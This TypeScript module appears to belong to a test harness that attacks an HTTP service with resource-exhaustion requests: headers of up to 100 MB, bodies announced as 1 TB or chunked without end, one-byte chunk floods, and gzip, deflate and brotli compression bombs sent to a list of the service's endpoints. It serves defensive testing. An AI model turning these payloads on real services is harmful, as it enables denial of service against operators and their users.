import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { authorized, exchange, head, post, repeat } from "./raw.ts";
import type { Attack, Target } from "./target.ts";

const ZEROS_BYTES = 100 * 1024 * 1024;
const PIECE = Buffer.alloc(64 * 1024, " ");

/** Requests that are larger than they may be, or say so, or become so. */
export const bombs: readonly Attack[] = [
  {
    name: "header-bombs",
    does: "heads of 64 KB to 100 MB: one header, 10,000 headers, one name, a head without end",
    async play(target) {
      const begin = "GET /v1/endpoints HTTP/1.1\r\nhost: attacked\r\n";
      const heads: readonly (() => Iterable<string>)[] = [
        () => [`${begin}cookie: ${"a".repeat(65_536)}\r\n\r\n`],
        () => [begin + Array.from({ length: 10_000 }, (_, index) => `x-${index}: a\r\n`).join(""), "\r\n"],
        () => [`${begin}${"n".repeat(65_536)}: a\r\n\r\n`],
        () => [`GET /${"a".repeat(65_536)} HTTP/1.1\r\nhost: attacked\r\n\r\n`],
        () => [begin + "cookie: a=b\r\n".repeat(1_900), "connection: close\r\n\r\n"],
        () => endless(begin, `x: ${"a".repeat(8_000)}\r\n`),
        () => endless(`${begin}x: `, "a".repeat(8_000)),
      ];
      await target.begin();
      await repeat(target, 6, (turn) => exchange(target, heads[turn % heads.length]?.() ?? []));
    },
  },
  {
    name: "huge-bodies",
    does: "bodies of 1 TB, announced or in chunks without end, at every interface",
    // Six connections bring bodies of up to 20 MB as fast as the service reads them, and what is read is garbage for some seconds.
    growthMaxBytes: 1024 * 1024 * 1024,
    async play(target) {
      await atEveryBody(target, async (turn, beginning) => {
        const isAnnounced = turn % 2 === 0;
        const framing = isAnnounced ? { "content-length": "1099511627776" } : { "transfer-encoding": "chunked" };
        const piece = isAnnounced ? PIECE : `10000\r\n${PIECE.toString()}\r\n`;
        await exchange(target, bounded(beginning(authorized(target, framing)), piece));
      });
    },
  },
  {
    name: "tiny-chunks",
    does: "bodies in chunks of one byte without end, with a key and without, at every interface",
    async play(target) {
      const chunks = "1\r\n \r\n".repeat(2_000);
      await atEveryBody(target, async (turn, beginning) => {
        const framing = { "transfer-encoding": "chunked" };
        const headers = turn % 4 === 0 ? framing : authorized(target, framing);
        await exchange(target, bounded(beginning(headers), chunks));
      });
    },
  },
  {
    name: "compressed-bodies",
    does: "100 MB of zeros as gzip, deflate and brotli, once and twice compressed",
    async play(target) {
      const zeros = Buffer.alloc(ZEROS_BYTES, "0");
      const gzip = gzipSync(zeros);
      const bodies: readonly (readonly [encoding: string, body: Buffer])[] = [
        ["gzip", gzip],
        ["gzip, gzip", gzipSync(gzip)],
        ["deflate", deflateSync(zeros)],
        ["br", brotliCompressSync(zeros)],
      ];
      const paths = bodyPaths(target);
      await target.begin();
      await repeat(target, 4, async (turn) => {
        const [encoding = "", body = Buffer.alloc(0)] = bodies[turn % bodies.length] ?? [];
        const [method = "", path = ""] = (paths[turn % paths.length] ?? "").split(" ");
        const { status = 0 } = await post(target, path, body, { "content-encoding": encoding }, method);
        // A file of a volume is stored as it is sent.
        if (status >= 200 && status < 300 && method !== "PUT")
          target.wrong(`${path} took a body in ${encoding}: ${status}`);
      });
    },
  },
];

/** Sends bodies to every place that reads one, over six connections at a time. */
async function atEveryBody(
  target: Target,
  send: (turn: number, beginning: (headers: Readonly<Record<string, string>>) => string) => Promise<void>,
): Promise<void> {
  const paths = bodyPaths(target);
  await target.begin();
  await repeat(target, 6, async (turn) => {
    const [method = "", path = ""] = (paths[turn % paths.length] ?? "").split(" ");
    const type = path.endsWith("/files") ? "multipart/form-data; boundary=b" : "application/json";
    await send(turn, (headers) => head(method, path, { "content-type": type, ...headers }));
  });
}

/** Every kind of place that reads a body. */
export function bodyPaths({ attacker: { endpointId, volumeId } }: Target): readonly string[] {
  const queue = `/v2/${endpointId}`;
  return [
    `POST ${queue}/run`,
    `POST ${queue}/runsync`,
    `POST ${queue}/batch`,
    `POST ${queue}/batch-quote`,
    `POST ${queue}/openai/v1/files`,
    `POST ${queue}/openai/v1/chat/completions`,
    `POST ${queue}/job-done/attacker/nothere`,
    `POST ${queue}/job-done-batch/attacker`,
    `POST ${queue}/job-stream/attacker/nothere`,
    "POST /v1/templates",
    `PATCH /v1/endpoints/${endpointId}`,
    "POST /graphql",
    "POST /compat/graphql",
    "POST /compat/v2/templates",
    `POST /compat/v2/${endpointId}/run`,
    `PUT /v1/networkvolumes/${volumeId}/files/content?path=large`,
    `POST /s3/${volumeId}?delete`,
    `POST /lb/${endpointId}/`,
  ];
}

const ENDLESS_BYTES = 100 * 1024 * 1024;

function* endless(beginning: string, piece: string): Generator<string> {
  yield beginning;
  for (let bytes = 0; bytes < ENDLESS_BYTES; bytes += piece.length) yield piece;
}

function* bounded(beginning: string, piece: string | Uint8Array): Generator<string | Uint8Array> {
  yield beginning;
  for (let bytes = 0; bytes < ENDLESS_BYTES; bytes += piece.length) yield piece;
}
